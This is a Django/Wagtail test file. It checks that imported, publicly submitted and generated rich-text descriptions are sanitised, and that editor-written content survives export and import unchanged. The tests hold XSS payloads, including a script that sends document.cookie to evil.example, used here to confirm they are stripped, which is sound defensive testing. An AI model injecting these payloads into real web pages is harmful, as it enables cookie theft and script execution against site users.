"""Rich text that does not come from the editor is stored as the editor would.

Rich text that does not come from the editor (imported files, the public forms,
generated data) is stored as the editor would store it: nothing executable reaches the
entry page or the editors' preview, and what the editor wrote comes back unchanged
through export and import.
"""

import json

from django.test import Client
from django.urls import reverse

from wagtail.admin.rich_text import get_rich_text_editor_widget

import pytest
from bs4 import BeautifulSoup

from demo.synthetic import create_entries
from home.rich_text import clean_rich_text
from home.roles import INVENTORY_EDITORS
from inventory.models import InventoryEntry
from tests.factories import InventoryEntryFactory, UserFactory
from tests.helpers.inventory import GOOD_ROW, export_rows, run_import, write_csv

pytestmark = pytest.mark.django_db

FEATURES = InventoryEntry._meta.get_field("description").features
STORED_TAGS = {"p", "br", "b", "i", "a", "ol", "ul", "li"}
SAFE_SCHEMES = ("http://", "https://", "mailto:", "tel:", "/", "#")

# payload → (what must be shown, what must be gone)
PAYLOADS = {
    "img onerror": (
        "<p>Before <img src=x onerror=alert(1)> after</p>",
        ["Before", "after"],
        ["<img", "onerror"],
    ),
    "script": (
        "<p>Safe <script>document.location='https://evil.example/'+document.cookie"
        "</script> text</p>",
        ["Safe", "text"],
        ["<script"],
    ),
    "javascript link": (
        '<p><a href="javascript:alert(1)">click</a> and '
        '<a href=" JaVa&#x09;ScRiPt:alert(2)">here</a></p>',
        ["click", "here"],
        ["javascript", "alert"],
    ),
    "iframe": (
        '<iframe src="https://evil.example/"></iframe><p>Framed</p>',
        ["Framed"],
        ["<iframe", "evil.example"],
    ),
    "style attributes": (
        '<p style="position:fixed;top:0">Styled <b style="color:red">bold</b></p>'
        '<span style="background:url(javascript:alert(1))">span</span>',
        ["Styled", "bold", "span"],
        ["style=", "position:fixed", "javascript"],
    ),
    "event handlers": (
        '<p onclick="alert(1)" onmouseover="alert(2)">Hover</p>'
        '<svg onload="alert(3)"><a xlink:href="javascript:alert(4)">svg</a></svg>',
        ["Hover"],
        ["onclick", "onmouseover", "onload", "<svg", "javascript"],
    ),
    "nested and malformed": (
        "<div><p>Outer <b>bold <i>both</p></div><ul><li>one<li>two</ul>"
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"
        '<noscript><p title="</noscript><img src=x onerror=alert(2)>">',
        ["Outer", "bold", "both", "one", "two"],
        ["<img", "onerror", "<style", "<math", "<noscript", "<div"],
    ),
    "data and vbscript": (
        '<p><a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">data</a>'
        ' <a href="vbscript:msgbox(1)">vb</a></p>',
        ["data", "vb"],
        ["data:text", "vbscript"],
    ),
}


def assert_inert(html):
    """Only the field's features: its tags, safe addresses, no attributes else."""
    for tag in BeautifulSoup(html, "html.parser").find_all(True):
        assert tag.name in STORED_TAGS, tag
        allowed = {"data-block-key"} | (
            {"href", "linktype", "id"} if tag.name == "a" else set()
        )
        assert set(tag.attrs) <= allowed, tag
        if "href" in tag.attrs:
            assert tag["href"].lower().startswith(SAFE_SCHEMES), tag


def description_shown(response):
    assert response.status_code == 200
    rich = BeautifulSoup(response.content, "html.parser").select_one(".rich-text")
    assert rich is not None
    return rich


def check_shown(rich, shown, gone):
    html = rich.decode_contents()
    assert_inert(html)
    text = rich.get_text(" ")
    for word in shown:
        assert word in text
    for fragment in gone:
        assert fragment.lower() not in html.lower()


@pytest.mark.parametrize("name", PAYLOADS)
def test_an_imported_description_is_published_without_its_markup(
    client, tmp_path, name
):
    payload, shown, gone = PAYLOADS[name]
    path = write_csv(tmp_path / "rich.csv", [{**GOOD_ROW, "description": payload}])
    out, _err = run_import(path, "--publish")
    assert "1 created" in out
    entry = InventoryEntry.objects.get()
    assert_inert(entry.description)
    check_shown(
        description_shown(client.get(f"/inventory/entries/{entry.pk}/")), shown, gone
    )


@pytest.mark.parametrize("name", PAYLOADS)
def test_an_imported_description_is_inert_in_the_editors_preview(tmp_path, name):
    """The import goes to moderation: what the editor previews runs nothing."""
    payload, shown, gone = PAYLOADS[name]
    path = tmp_path / "rich.json"  # the API's format this time
    path.write_text(json.dumps([{**GOOD_ROW, "description": payload}]))
    run_import(path)
    entry = InventoryEntry.objects.get()
    assert entry.current_workflow_state.status == "in_progress"
    editor = Client()
    editor.force_login(UserFactory(username="previewer", groups=[INVENTORY_EDITORS]))
    for url in (
        reverse(
            "wagtailsnippets_inventory_inventoryentry:revisions_view",
            args=[entry.pk, entry.latest_revision_id],
        ),
        reverse(
            "wagtailsnippets_inventory_inventoryentry:workflow_preview",
            args=[entry.pk, entry.current_workflow_task_state.task_id],
        ),
    ):
        check_shown(description_shown(editor.get(url)), shown, gone)


def test_a_reimport_updates_an_entry_with_the_clean_description(client, tmp_path):
    entry = InventoryEntryFactory(description="<p>Original.</p>")
    row = {
        **GOOD_ROW,
        "reference": entry.reference,
        "description": '<p onclick="alert(1)">Updated.</p><script>x()</script>',
    }
    out, _err = run_import(write_csv(tmp_path / "update.csv", [row]), "--publish")
    assert "0 created, 1 updated" in out
    entry.refresh_from_db()
    assert entry.description == "<p>Updated.</p><p>x()</p>"
    assert "onclick" not in entry.latest_revision.content["description"]


# --- The sanitiser ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        ("<img src=x onerror=alert(1)>", "<p></p>"),
        ("<p>a<script>alert(1)</script>b</p>", "<p>aalert(1)b</p>"),
        ('<p><a href="javascript:alert(1)">x</a></p>', "<p>x</p>"),
        ('<p><a href="java\tscript:alert(1)">x</a></p>', "<p>x</p>"),
        ('<p><a href="&#106;avascript:alert(1)">x</a></p>', "<p>x</p>"),
        ('<iframe src="https://evil.example/"></iframe><p>t</p>', "<p></p><p>t</p>"),
        (
            '<p style="color:red" onclick="x()">s<b style="x">b</b></p>',
            "<p>s<b>b</b></p>",
        ),
        # Unclosed tags, which Wagtail's converter alone cannot read.
        (
            '<p><b><i>open <a href="https://example.org/?a=1&b=2">link</a>',
            '<p><b><i>open</i></b> <a href="https://example.org/?a=1&amp;b=2">'
            "<b><i>link</i></b></a></p>",
        ),
        (
            "<div><p>in <ul><li>one<li>two</ul></div>",
            "<p></p><p>in</p><ul><li>one</li><li>two</li></ul>",
        ),
        (
            "<h2>Heading</h2><blockquote>quote</blockquote>",
            "<p>Heading</p><p>quote</p>",
        ),
        ("plain & <3", "<p>plain &amp; &lt;3</p>"),
        ("</p></b><<>>", "<p>&lt;&lt;&gt;&gt;</p>"),
        ("<p>nul\x00 and escape\x1b</p>", "<p>nul and escape</p>"),
        ("", ""),
        ("   ", ""),
        # What the editor itself writes is kept as it is, block keys included.
        (
            '<p data-block-key="k1">a<br/>b <a href="mailto:a@example.org">m</a></p>'
            '<ol><li data-block-key="k2">x</li></ol>',
            '<p data-block-key="k1">a<br/>b <a href="mailto:a@example.org">m</a></p>'
            '<ol><li data-block-key="k2">x</li></ol>',
        ),
        ("<p data-block-key='x\" onclick=\"y'>q</p>", "<p>q</p>"),
    ],
)
def test_clean_rich_text(html, cleaned):
    assert clean_rich_text(html, FEATURES) == cleaned
    assert clean_rich_text(cleaned, FEATURES) == cleaned


def test_markup_nested_too_deep_for_the_converter_keeps_its_text():
    assert clean_rich_text("<ul><li>x" * 500, FEATURES) == "<p>" + "x" * 500 + "</p>"


def test_links_to_pages_are_kept(tree):
    html = f'<p><a linktype="page" id="{tree.c5.pk}">C5</a></p>'
    assert clean_rich_text(html, FEATURES) == html


# --- Export and import of what the editor wrote ---------------------------------


def editor_saved(tree):
    """A description as Draftail's widget saves it from the admin's form."""
    blocks = [
        {
            "key": "intro",
            "type": "unstyled",
            "depth": 0,
            "text": "Bold, italic & <angle> text\nsecond line مرحبا",
            "inlineStyleRanges": [
                {"offset": 0, "length": 4, "style": "BOLD"},
                {"offset": 6, "length": 6, "style": "ITALIC"},
            ],
            "entityRanges": [],
        },
        {
            "key": "links",
            "type": "unstyled",
            "depth": 0,
            "text": "Site and C5 page",
            "inlineStyleRanges": [],
            "entityRanges": [
                {"offset": 0, "length": 4, "key": 0},
                {"offset": 9, "length": 7, "key": 1},
            ],
        },
        {
            "key": "item1",
            "type": "unordered-list-item",
            "depth": 0,
            "text": "one",
            "inlineStyleRanges": [],
            "entityRanges": [],
        },
        {
            "key": "item2",
            "type": "ordered-list-item",
            "depth": 0,
            "text": "two",
            "inlineStyleRanges": [],
            "entityRanges": [],
        },
    ]
    entity_map = {
        "0": {
            "type": "LINK",
            "mutability": "MUTABLE",
            "data": {"url": "https://example.org/a?b=1&c=2"},
        },
        "1": {"type": "LINK", "mutability": "MUTABLE", "data": {"id": tree.c5.pk}},
    }
    widget = get_rich_text_editor_widget(features=FEATURES)
    value = json.dumps({"blocks": blocks, "entityMap": entity_map})
    return widget.value_from_datadict({"description": value}, {}, "description")


@pytest.mark.parametrize("format_", ["csv", "json"])
def test_what_the_editor_wrote_round_trips_through_export_and_import(
    client, tmp_path, tree, format_
):
    description = editor_saved(tree)
    assert 'linktype="page"' in description and "<ol>" in description
    entry = InventoryEntryFactory(description=description, team=tree.c5_team)
    before, text = export_rows(client)
    if format_ == "csv":
        path = tmp_path / "export.csv"
        path.write_text(text, encoding="utf-8")
    else:
        path = tmp_path / "export.json"
        path.write_text(client.get("/api/inventory/").content.decode("utf-8"))
    entry.delete()
    run_import(path, "--publish")
    assert InventoryEntry.objects.get().description == description
    after, _text = export_rows(client)
    site_columns = {"id", "url", "published_at"}
    assert [
        {key: value for key, value in row.items() if key not in site_columns}
        for row in after
    ] == [
        {key: value for key, value in row.items() if key not in site_columns}
        for row in before
    ]


def test_generated_descriptions_are_what_the_editor_would_store(db):
    create_entries(25, seed=7)
    descriptions = list(InventoryEntry.objects.values_list("description", flat=True))
    assert len(descriptions) == 25
    for description in descriptions:
        assert description.startswith("<p>")
        assert clean_rich_text(description, FEATURES) == description


def test_a_public_description_is_stored_as_the_editor_would_store_it(
    client, django_capture_on_commit_callbacks
):
    from tests.helpers.public_forms import SUBMIT_URL, submission

    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(
            SUBMIT_URL,
            submission(
                description='<a href="javascript:alert(1)">x</a>   spaced\n'
                "next\x01 line\n\n<b>second</b>"
            ),
        )
    assert response.status_code == 302
    stored = InventoryEntry.objects.get().description
    assert stored == (
        '<p>&lt;a href="javascript:alert(1)"&gt;x&lt;/a&gt; spaced<br/>'
        "next line</p><p>&lt;b&gt;second&lt;/b&gt;</p>"
    )
    assert clean_rich_text(stored, FEATURES) == stored
